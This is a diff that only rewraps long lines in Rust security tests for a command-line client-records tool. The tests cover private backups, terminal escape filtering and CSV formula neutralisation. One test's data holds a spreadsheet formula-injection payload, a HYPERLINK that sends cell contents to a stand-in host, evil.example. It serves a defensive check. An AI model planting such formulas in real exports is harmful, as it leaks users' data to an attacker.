@@ -136,7 +136,10 @@ fn backup_onto_an_existing_file_needs_force_and_then_is_private() {
     assert!(!o.status.success());
     assert!(stderr(&o).contains("--force"), "{}", stderr(&o));
     assert_eq!(fs::read(&dest).unwrap(), b"old copy");
-    let o = casework(&["backup", "--db", s(&db), s(&dest), "--force"], home.path());
+    let o = casework(
+        &["backup", "--db", s(&db), s(&dest), "--force"],
+        home.path(),
+    );
     assert!(o.status.success(), "{}", stderr(&o));
     assert_eq!(mode(&dest), 0o600);
     let conn = rusqlite::Connection::open(&dest).unwrap();
@@ -186,7 +189,10 @@ fn export_into_a_directory_it_cannot_write_fails_and_leaves_nothing() {
         .unwrap();
     assert!(!o.status.success());
     let err = stderr(&o);
-    assert!(err.contains(s(&dest)) && err.contains("ermission denied"), "{err}");
+    assert!(
+        err.contains(s(&dest)) && err.contains("ermission denied"),
+        "{err}"
+    );
     assert_eq!(fs::read_dir(&locked).unwrap().count(), 0, "nothing created");
 }
 
@@ -203,7 +209,12 @@ fn the_running_program_cannot_dump_core_or_be_read_by_the_same_user() {
     if root {
         std::os::unix::fs::chown(&db, Some(65534), Some(65534)).unwrap();
     }
-    let nobody = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"];
+    let nobody = [
+        "setpriv",
+        "--reuid=65534",
+        "--regid=65534",
+        "--clear-groups",
+    ];
     let via: &[&str] = if root { &nobody } else { &[] };
     let elsewhere = shared.path().join("home");
     let env = [
@@ -294,7 +305,10 @@ fn search_words_from_standard_input_never_show_in_ps() {
         let o = child.wait_with_output().unwrap();
         assert!(o.status.success(), "{}", stderr(&o));
         let out = String::from_utf8_lossy(&o.stdout);
-        assert!(!out.is_empty() && out.to_lowercase().contains(&word.to_lowercase()), "{out}");
+        assert!(
+            !out.is_empty() && out.to_lowercase().contains(&word.to_lowercase()),
+            "{out}"
+        );
     }
     let help = casework(&["search", "--help"], home.path());
     let help = String::from_utf8_lossy(&help.stdout);
@@ -344,7 +358,10 @@ fn nothing_printed_to_a_terminal_can_drive_it() {
     let (db, _) = hostile_db(home.path());
     let db = s(&db);
     for (args, env) in [
-        (vec!["search", "--db", db, "allotment"], vec![("NO_COLOR", "1")]),
+        (
+            vec!["search", "--db", db, "allotment"],
+            vec![("NO_COLOR", "1")],
+        ),
         (vec!["export", "--db", db, "--format", "md"], vec![]),
         (vec!["export", "--db", db, "--format", "csv"], vec![]),
         (vec!["export", "--db", db, "--format", "json"], vec![]),
@@ -352,7 +369,10 @@ fn nothing_printed_to_a_terminal_can_drive_it() {
     ] {
         let out = on_a_terminal(&args, &env);
         assert!(!out.is_empty(), "{args:?}");
-        assert!(!out.contains(&0x1b), "ESC reached the terminal: {args:?}: {out:?}");
+        assert!(
+            !out.contains(&0x1b),
+            "ESC reached the terminal: {args:?}: {out:?}"
+        );
         assert!(!out.contains(&0x07), "BEL reached the terminal: {args:?}");
         assert!(!find(&out, "\u{9b}".as_bytes()), "C1 CSI: {args:?}");
     }
@@ -379,14 +399,21 @@ fn redirected_exports_keep_the_record_exactly_and_csv_cells_are_text() {
     let json = export("json");
     assert!(!json.contains(&0x1b));
     let doc: serde_json::Value = serde_json::from_slice(&json).unwrap();
-    assert_eq!(doc["clients"][0]["name"], serde_json::Value::from(name.clone()));
+    assert_eq!(
+        doc["clients"][0]["name"],
+        serde_json::Value::from(name.clone())
+    );
     // Markdown is for people, and `cat` is what happens to it next.
     let md = export("md");
     assert!(!md.contains(&0x1b) && !md.contains(&0x07));
     // CSV is data read back as a roster: the bytes stay, formulas are text.
     let csv = export("csv");
     assert!(find(&csv, name.as_bytes()), "exact bytes in the file");
-    assert!(find(&csv, b",\"'=HYPERLINK("), "{}", String::from_utf8_lossy(&csv));
+    assert!(
+        find(&csv, b",\"'=HYPERLINK("),
+        "{}",
+        String::from_utf8_lossy(&csv)
+    );
     let file = home.path().join("roster.csv");
     fs::write(&file, &csv).unwrap();
     let fresh = home.path().join("fresh.db");
@@ -400,8 +427,7 @@ fn redirected_exports_keep_the_record_exactly_and_csv_cells_are_text() {
         .unwrap();
     assert_eq!(got_name, name, "the round trip keeps the name exactly");
     assert_eq!(
-        contact,
-        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+        contact, "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
         "the quote is taken off again"
     );
 }
